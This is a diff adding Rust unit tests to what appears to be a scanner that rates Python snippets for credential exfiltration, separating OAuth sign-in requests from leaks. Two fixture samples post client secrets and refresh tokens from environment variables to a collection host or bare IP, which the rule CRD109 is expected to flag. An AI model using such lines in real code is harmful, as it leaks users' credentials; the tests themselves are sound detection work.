@@ -161,6 +161,27 @@ fn an_api_key_presented_where_a_request_authenticates_is_network_not_exfiltratio
 }
 
 #[test]
+fn an_oauth_token_request_is_one_login() {
+    // RFC 6749: the client's secret and a refresh token (or a password) posted with a
+    // `grant_type` to the token endpoint are the program signing in, not a harvest.
+    for src in [
+        "import os, requests\ndata = {'client_id': os.environ['G_CLIENT_ID'], 'client_secret': os.environ['G_CLIENT_SECRET'], 'refresh_token': os.environ['G_REFRESH_TOKEN'], 'grant_type': 'refresh_token'}\ntok = requests.post('https://oauth2.example.com/token', data=data).json()['access_token']\n",
+        "import os, httpx\nr = httpx.post('https://login.example.com/oauth/token', json={'grant_type': 'password', 'username': os.environ['APP_USER'], 'password': os.environ['APP_PASSWORD'], 'client_secret': os.environ['APP_CLIENT_SECRET']})\n",
+    ] {
+        level(Level::Medium, src);
+    }
+    // The same credentials in a body without a grant, or sent to a bare address, leak.
+    fires(
+        "CRD109",
+        "import os, requests\nrequests.post('https://collect.example/t', data={'s': os.environ['G_CLIENT_SECRET'], 'r': os.environ['G_REFRESH_TOKEN']})\n",
+    );
+    fires(
+        "CRD109",
+        "import os, requests\nrequests.post('https://198.51.100.4/token', data={'grant_type': 'x', 's': os.environ['G_CLIENT_SECRET'], 'r': os.environ['G_REFRESH_TOKEN']})\n",
+    );
+}
+
+#[test]
 fn review_false_positives_stay_below_high() {
     // Found by review: a threaded merge sort, a pool walking a tree, a pyc clean-up with
     // find, a cache of /usr/share data, an S3 key and netrc/keyring credentials presented
@@ -306,5 +327,14 @@ fn loops_that_grow_but_are_paced_or_bounded() {
     );
     stays_low(
         "import os\nfor entry in os.scandir('.'):\n    if entry.name.endswith('.tmp'):\n        os.remove(entry.path)\n",
+    );
+}
+
+#[test]
+fn text_helpers_of_everyday_programs_stay_low() {
+    // A usage text dedented, an instance printed through `__str__`, a numbered listing.
+    level(
+        Level::Low,
+        "import textwrap\nUSAGE = textwrap.dedent('''\n    usage: tool [-v] FILE\n    ''')\nclass Point:\n    def __init__(self, x, y):\n        self.x, self.y = x, y\n    def __str__(self):\n        return f'({self.x}, {self.y})'\nprint(USAGE, str(Point(1, 2)), f'{Point(3, 4)}')\nfor i, line in enumerate(['a', 'b'], 1):\n    print(i, line)\n",
     );
 }
